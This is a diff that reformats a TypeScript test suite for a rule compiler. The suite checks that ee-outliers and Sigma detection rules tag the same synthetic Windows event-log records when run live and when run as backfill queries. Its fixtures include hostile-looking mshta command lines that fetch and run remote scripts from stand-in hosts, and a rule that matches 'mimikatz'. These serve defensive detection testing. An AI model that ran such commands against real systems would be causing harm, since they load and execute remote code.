@@ -32,7 +32,11 @@ function rulesOf(results: CompileResult[]): Rule[] {
 type Doc = { id: string; source: Record<string, unknown> };
 let seq = 0;
 /** A winlogbeat-shaped event (CONTRACT.md) with the given event_data and top-level extras. */
-function ev(id: string, data: Record<string, string>, more: { channel?: string; eventId?: number; host?: string; message?: string } = {}): Doc {
+function ev(
+  id: string,
+  data: Record<string, string>,
+  more: { channel?: string; eventId?: number; host?: string; message?: string } = {},
+): Doc {
   const eventId = more.eventId ?? 1;
   return {
     id,
@@ -118,7 +122,10 @@ const tagged = (m: Map<string, any>) =>
 
 describe("NVISO's mshta use case", () => {
   const docs = [
-    ev("m-vbscript", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: 'mshta.exe vbscript:Close(Execute("GetObject(""script:https://x/a"")"))' }),
+    ev("m-vbscript", {
+      Image: "C:\\Windows\\System32\\mshta.exe",
+      CommandLine: 'mshta.exe vbscript:Close(Execute("GetObject(""script:https://x/a"")"))',
+    }),
     ev("m-png", { Image: "C:\\Windows\\SysWOW64\\mshta.exe", CommandLine: "mshta.exe http://198.51.100.7/a.png" }),
     ev("m-hta", { Image: "C:\\Windows\\System32\\mshta.exe", CommandLine: "mshta.exe C:\\Users\\bob\\a.hta" }),
     // the sigmac query is case-sensitive (wildcard on .keyword without case_insensitive)
@@ -133,7 +140,10 @@ describe("NVISO's mshta use case", () => {
     expect(rules.map((r) => r.id)).toEqual(["simplequery_sigma_win_susp_mshta_execution"]);
     const { built, live, backfill } = await liveAndBackfill(rules, docs, "ee-mshta");
     expect(built.skipped).toEqual([]);
-    const expected = ["m-png simplequery_sigma_win_susp_mshta_execution", "m-vbscript simplequery_sigma_win_susp_mshta_execution"];
+    const expected = [
+      "m-png simplequery_sigma_win_susp_mshta_execution",
+      "m-vbscript simplequery_sigma_win_susp_mshta_execution",
+    ];
     expect(tagged(live)).toEqual(expected);
     expect(tagged(backfill)).toEqual(expected);
     const t = tagsOf(live.get("m-vbscript"));
@@ -185,7 +195,10 @@ describe("through the CLI", () => {
 });
 
 describe("use cases of every construct", () => {
-  const results = compileEeOutliersFiles([path.join(FIX, "agreement.conf"), path.join(FIX, "agreement-whitelist.conf")], { profile });
+  const results = compileEeOutliersFiles(
+    [path.join(FIX, "agreement.conf"), path.join(FIX, "agreement-whitelist.conf")],
+    { profile },
+  );
   const rules = rulesOf(results);
   const docs: Doc[] = [
     ev("cmd", { Image: "C:\\Windows\\System32\\cmd.exe", CommandLine: "cmd /c dir" }),
@@ -220,14 +233,21 @@ describe("use cases of every construct", () => {
   test("all load; the one the live side cannot evaluate is reported with its reason", () => {
     expect(results.every((r) => r.status === "ok")).toBe(true);
     const bo = rules.find((r) => r.id === "simplequery_backfill_only")!;
-    expect(bo.liveUnsupported).toBe("es_dsl_filter: query.bool.must[0].match.message: match on analysed text field message matches tokens, not the whole value");
+    expect(bo.liveUnsupported).toBe(
+      "es_dsl_filter: query.bool.must[0].match.message: match on analysed text field message matches tokens, not the whole value",
+    );
     expect(bo.backfillOnlyQuery).toEqual({ bool: { must: [{ match: { message: "mimikatz" } }] } });
   });
 
   test("every use case's live result equals its query's result, event for event (the query as emitted and ee-outliers' own)", async () => {
     // (1) the emitted query (what backfill runs)
     const emitted = await liveVsQuery(rules, docs, { template, prefix: "ee-agree" });
-    expect(emitted.excluded).toEqual([{ id: "simplequery_backfill_only", reason: "pipeline: " + rules.find((r) => r.id === "simplequery_backfill_only")!.liveUnsupported }]);
+    expect(emitted.excluded).toEqual([
+      {
+        id: "simplequery_backfill_only",
+        reason: "pipeline: " + rules.find((r) => r.id === "simplequery_backfill_only")!.liveUnsupported,
+      },
+    ]);
     expect(emitted.errors).toEqual([]);
     expect(emitted.lost).toEqual([]);
     expect(emitted.diffs).toEqual([]);
@@ -240,10 +260,14 @@ describe("use cases of every construct", () => {
     // keyword. The sub-field does not exist, so the query as written matches nothing; outliers reads
     // `X.keyword` as "the whole value of X" (what sigmac meant for text+keyword mappings), live and in
     // the query it emits for backfill alike.
-    expect(original.diffs).toEqual([{ doc: "temp-4688", rule: "simplequery_dsl_terms_prefix", live: true, query: false }]);
+    expect(original.diffs).toEqual([
+      { doc: "temp-4688", rule: "simplequery_dsl_terms_prefix", live: true, query: false },
+    ]);
     expect(original.livePairs).toBe(emitted.livePairs);
 
-    const pairs = [...emitted.liveTags].flatMap(([d, ids]) => ids.map((r) => `${d} ${r.replace("simplequery_", "")}`)).sort();
+    const pairs = [...emitted.liveTags]
+      .flatMap(([d, ids]) => ids.map((r) => `${d} ${r.replace("simplequery_", "")}`))
+      .sort();
     expect(pairs).toEqual(
       [
         "alice lucene_users",
@@ -266,17 +290,34 @@ describe("use cases of every construct", () => {
         // sysmon without parent and event id <= 10 (every sysmon doc but sysmon-11 and rundll-parent;
         // ps-backup-host9 is on the global whitelist: svc_backup on HOST9)
         ...docs
-          .filter((d) => !["sec-4624", "sec-4700", "sec-3999", "temp-4688", "sysmon-11", "rundll-parent", "ps-backup-host9"].includes(d.id))
+          .filter(
+            (d) =>
+              ![
+                "sec-4624",
+                "sec-4700",
+                "sec-3999",
+                "temp-4688",
+                "sysmon-11",
+                "rundll-parent",
+                "ps-backup-host9",
+              ].includes(d.id),
+          )
           .map((d) => `${d.id} dsl_sysmon_no_parent`),
       ].sort(),
     );
   }, 120_000);
 
   test("whitelists: an event matching a use case and a whitelist entry is tagged neither live nor in backfill", async () => {
-    const ps = rules.filter((r) => r.id === "simplequery_powershell_whitelisted" || r.id === "simplequery_backfill_only");
+    const ps = rules.filter(
+      (r) => r.id === "simplequery_powershell_whitelisted" || r.id === "simplequery_backfill_only",
+    );
     const wlDocs = docs.filter((d) => d.id.startsWith("ps") || d.id === "mimikatz");
     const { live, backfill } = await liveAndBackfill(ps, wlDocs, "ee-wl");
-    const expected = ["mimikatz simplequery_backfill_only", "ps simplequery_powershell_whitelisted", "ps-backup-host8 simplequery_powershell_whitelisted"];
+    const expected = [
+      "mimikatz simplequery_backfill_only",
+      "ps simplequery_powershell_whitelisted",
+      "ps-backup-host8 simplequery_powershell_whitelisted",
+    ];
     // the backfill-only use case is tagged by backfill alone
     expect(tagged(live)).toEqual(expected.filter((p) => !p.startsWith("mimikatz")));
     expect(tagged(backfill)).toEqual(expected);
@@ -284,8 +325,19 @@ describe("use cases of every construct", () => {
     const { client } = await cluster();
     const plain = [...created].reverse().find((n) => n.includes("ee-wl-bf"))!;
     const rule = ps.find((r) => r.id === "simplequery_powershell_whitelisted")!;
-    const hits: any = await client.search({ index: plain, size: 100, _source: false, query: { query_string: { query: "winlog.event_data.Image:*\\\\powershell.exe" } } } as any);
-    expect(hits.hits.hits.map((h: any) => h._id).sort()).toEqual(["ps", "ps-admin", "ps-backup-host8", "ps-backup-host9", "ps-trusted"]);
+    const hits: any = await client.search({
+      index: plain,
+      size: 100,
+      _source: false,
+      query: { query_string: { query: "winlog.event_data.Image:*\\\\powershell.exe" } },
+    } as any);
+    expect(hits.hits.hits.map((h: any) => h._id).sort()).toEqual([
+      "ps",
+      "ps-admin",
+      "ps-backup-host8",
+      "ps-backup-host9",
+      "ps-trusted",
+    ]);
     const q: any = await client.search({ index: plain, size: 100, _source: false, query: ruleQuery(rule) } as any);
     expect(q.hits.hits.map((h: any) => h._id).sort()).toEqual(["ps", "ps-backup-host8"]);
   }, 60_000);
@@ -344,7 +396,9 @@ outlier_summary = bare
     });
     const r = await liveVsQuery(asWritten, docs, { template, prefix: "ee-text" });
     expect(r.errors).toEqual([]);
-    const diffs = r.diffs.map((d) => `${d.doc} ${d.rule.replace("simplequery_", "")} ${d.live ? "live-only" : "query-only"}`).sort();
+    const diffs = r.diffs
+      .map((d) => `${d.doc} ${d.rule.replace("simplequery_", "")} ${d.live ? "live-only" : "query-only"}`)
+      .sort();
     expect(diffs).toEqual([
       // bare term: the query looks for the token in every field (keyword fields: whole value);
       // live, some keyword field's value contains the term
@@ -358,7 +412,16 @@ outlier_summary = bare
     // and where they agree
     const live = [...r.liveTags].flatMap(([d, ids]) => ids.map((x) => `${d} ${x.replace("simplequery_", "")}`)).sort();
     expect(live).toEqual(
-      ["b-cmd bare_term", "b-message bare_term", "b-token bare_term", "p-exact text_phrase", "t-dotted text_term", "t-prefix text_term", "t-token text_term", "t-upper text_term"].sort(),
+      [
+        "b-cmd bare_term",
+        "b-message bare_term",
+        "b-token bare_term",
+        "p-exact text_phrase",
+        "t-dotted text_term",
+        "t-prefix text_term",
+        "t-token text_term",
+        "t-upper text_term",
+      ].sort(),
     );
     // the emitted query (what backfill runs) agrees with live exactly
     const emitted = await liveVsQuery(rules, docs, { template, prefix: "ee-text2" });
